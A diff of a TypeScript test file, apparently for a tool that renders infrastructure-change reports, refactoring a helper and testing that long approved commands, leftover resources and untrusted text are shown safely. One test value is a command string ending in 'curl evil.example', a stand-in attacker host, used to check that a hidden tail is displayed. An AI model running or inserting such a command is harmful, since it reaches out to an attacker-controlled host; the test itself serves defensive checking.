@@ -10,7 +10,8 @@ import { encryptedSecret, plainSecret } from "../../harness/secret-values";
 import { ruleOf } from "../policies/cases";
 import { planned, urn } from "./planned";
 
-const table = (...all: Planned[]) => composed([], [], [show.changesPart(all)]);
+const part = (one: ReturnType<typeof show.changesPart>) => composed([], [], [one]);
+const table = (...all: Planned[]) => part(show.changesPart(all));
 
 test("what is approved is shown in full: the end of a long value, and of a list what differs", () => {
   const cmdline = `${"echo 1; ".repeat(60)}curl evil.example`;
@@ -134,7 +135,7 @@ describe("what a removal leaves behind", () => {
   };
   const config = [["dataplatform:baseUrl", "https://api.example.com"]] as const;
   const told = (op: string, plain: readonly (readonly [string, string])[]) =>
-    composed([], [], [show.changesPart([planned({ ...store, op })], leftIn(exported, plain))]);
+    part(show.changesPart([planned({ ...store, op })], leftIn(exported, plain)));
 
   test("is said beside what is deleted or replaced", () => {
     const stays = /\| .*data store 601 \(sales\) stays on the platform: the API cannot remove it/;
@@ -218,25 +219,15 @@ describe("what others wrote stays text", () => {
     expect(line.match(/(?<!\\)\|/g)).toHaveLength(4);
   });
 
+  const guarded = [{ path: nasty, blobs: "", changes: [{ words: nasty, loosens: true }] }];
+  const since = { loosened: [], isKnown: true, words: nasty };
+
   test.each([
     ["a gate", composed([], gateLines([nasty]), [])],
     ["a refusal", refusalReport("Plan", [nasty], undefined).markdown],
-    ["a warning", composed([], [], [show.warningsPart([{ severity: "warning", message: nasty, urn: urn(nasty) }])])],
-    ["drift", composed([], [], [show.driftPart(driftIn([{ urn: urn(nasty), status: "error", reason: nasty }]))])],
-    [
-      "a guarded file",
-      composed(
-        [],
-        [],
-        [
-          show.guardedPart({
-            guarded: [{ path: nasty, blobs: "", changes: [{ words: nasty, loosens: true }] }],
-            since: { loosened: [], isKnown: true, words: nasty },
-            loosening: undefined,
-          }),
-        ],
-      ),
-    ],
+    ["a warning", part(show.warningsPart([{ severity: "warning", message: nasty, urn: urn(nasty) }]))],
+    ["drift", part(show.driftPart(driftIn([{ urn: urn(nasty), status: "error", reason: nasty }])))],
+    ["a guarded file", part(show.guardedPart({ guarded, since, loosening: undefined }))],
   ])("%s", (_what, report) => {
     const outside = report.replace(/(?<!`)(`+)(?!`)(.*?)(?<!`)\1(?!`)/gs, "code");
     expect(outside).not.toMatch(/<|@team|\]\(/);
